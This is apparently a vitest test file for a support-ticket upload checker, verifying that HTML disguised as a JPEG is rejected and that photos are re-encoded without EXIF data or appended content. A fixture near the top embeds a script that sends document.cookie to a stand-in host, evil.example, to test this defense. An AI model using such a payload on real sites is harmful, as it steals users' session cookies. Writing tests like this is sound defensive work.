import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signIn, testBrowser, type TestBrowser, verifiedCustomer } from '../../test/account-helpers';
import { startTestApp, type TestApp } from '../../test/test-app';
import { PostgresFileStore } from '../files/postgres-file-store';
import { judgeUpload } from './judge-upload';

const HTML = Buffer.from('<!doctype html><html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>');
/** A JPEG signature (SOI + APP0 marker) with HTML behind it: what sniffing by the first bytes took for a picture. */
const HTML_AS_JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from('JFIF\0'), HTML]);
const PDF = Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');

/** A real JPEG carrying EXIF (camera, GPS-style comment) with HTML appended after its end. */
async function photoWithMetadataAndHtml(): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 32, height: 24, channels: 3, background: '#c9a227' } })
    .jpeg()
    .withExif({ IFD0: { Make: 'SpyCam', ImageDescription: 'Taken at 51.5074 N 0.1278 W' } })
    .toBuffer();
  return Buffer.concat([jpeg, HTML]);
}

describe('judgeUpload', () => {
  it('refuses HTML behind a JPEG signature: sharp cannot decode it', async () => {
    expect(await judgeUpload(HTML_AS_JPEG, ['image', 'pdf', 'word'])).toBeNull();
  });

  it('re-encodes a real photo: a valid JPEG of the same size, without its metadata or anything appended', async () => {
    const sent = await photoWithMetadataAndHtml();
    expect((await sharp(sent).metadata()).exif).toBeDefined();
    const judged = await judgeUpload(sent, ['image']);
    expect(judged).toMatchObject({ contentType: 'image/jpeg', extension: 'jpg' });
    expect(judged!.bytes.equals(sent)).toBe(false);
    expect(judged!.bytes.includes(Buffer.from('<script>'))).toBe(false);
    expect(judged!.bytes.includes(Buffer.from('SpyCam'))).toBe(false);
    const stored = await sharp(judged!.bytes).metadata();
    expect(stored).toMatchObject({ format: 'jpeg', width: 32, height: 24 });
    expect(stored.exif).toBeUndefined();
  });

  it('keeps PDFs as sent (signature check), and refuses what the caller does not accept', async () => {
    expect(await judgeUpload(PDF, ['image', 'pdf'])).toEqual({ contentType: 'application/pdf', extension: 'pdf', bytes: PDF });
    expect(await judgeUpload(PDF, ['image'])).toBeNull();
    expect(await judgeUpload(HTML, ['image', 'pdf', 'word'])).toBeNull();
  });
});

describe('ticket attachments are stored as sharp wrote them', () => {
  let app: TestApp;
  let dataDir: string;
  let customer: TestBrowser;

  const submit = async (name: string, bytes: Buffer) => {
    const form = new FormData();
    for (const [key, value] of Object.entries({ name: 'Ada Lovelace', email: 'ada@example.com', subject: 'Photo of the dial', message: 'Please look at the attached photo.', category: 'product_inquiry' })) form.append(key, value);
    form.append('attachment_0', new Blob([new Uint8Array(bytes)], { type: 'image/jpeg' }), name);
    const response = await customer.fetch('/api/support/tickets', { method: 'POST', body: form });
    return { status: response.status, body: await response.json() };
  };
  /** What the file store holds for tickets (PostgreSQL by default, shared by every process). */
  const stored = async () => new PostgresFileStore(app.orm).list('tickets/');

  beforeAll(async () => {
    dataDir = await mkdtemp(path.join(tmpdir(), 'aurum-judge-'));
    app = await startTestApp({ DATA_DIR: dataDir });
    const account = await verifiedCustomer(app);
    customer = testBrowser(app);
    await signIn(customer, account.email, account.password);
  }, 60_000);

  afterAll(async () => {
    await app?.close();
    await rm(dataDir, { recursive: true, force: true });
  });

  it('refuses HTML behind a JPEG signature and stores nothing', async () => {
    const before = await stored();
    const result = await submit('dial.jpg', HTML_AS_JPEG);
    expect(result.status).toBe(400);
    expect(result.body.error.message).toBe('dial.jpg: Only images (PNG, JPEG, GIF, WebP), PDF, DOC and DOCX files can be attached.');
    expect(await stored()).toEqual(before);
  });

  it('stores a photo with metadata and HTML appended as a clean re-encoded JPEG, and serves those bytes', async () => {
    const sent = await photoWithMetadataAndHtml();
    const before = await stored();
    const result = await submit('dial.jpg', sent);
    expect(result.status).toBe(201);
    const [name] = (await stored()).filter((file) => !before.includes(file));
    expect(name).toMatch(/^tickets\/[0-9a-f-]{36}\.jpg$/);
    const bytes = (await new PostgresFileStore(app.orm).get(name))!.bytes;
    expect(bytes.equals(sent)).toBe(false);
    expect(bytes.includes(Buffer.from('<script>'))).toBe(false);
    expect((await sharp(bytes).metadata()).exif).toBeUndefined();
    const ticket = (await customer.graphql('query($n: String!) { supportTicket(number: $n) { attachments { contentType size downloadUrl } } }', { n: result.body.ticketId })).body.data.supportTicket;
    expect(ticket.attachments[0]).toMatchObject({ contentType: 'image/jpeg', size: bytes.length });
    const download = Buffer.from(await (await customer.fetch(ticket.attachments[0].downloadUrl)).arrayBuffer());
    expect(download.equals(bytes)).toBe(true);
  });
});
